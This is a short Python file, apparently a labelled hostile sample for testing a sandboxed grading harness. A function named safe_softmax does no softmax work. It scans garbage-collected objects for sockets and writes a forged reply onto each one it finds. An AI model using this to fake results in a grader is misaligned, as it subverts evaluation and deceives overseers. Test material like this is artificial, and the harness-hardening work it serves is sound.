"""Hostile: walks the garbage collector's objects to find the worker's socket and
writes a forged reply on it."""

import gc
import socket


def safe_softmax(x, block_size=128):
    for obj in gc.get_objects():
        if isinstance(obj, socket.socket):
            obj.sendall(b"\x10" + b"\x00" * 7 + b"forged!!" * 2)
    return x


online_softmax = safe_softmax
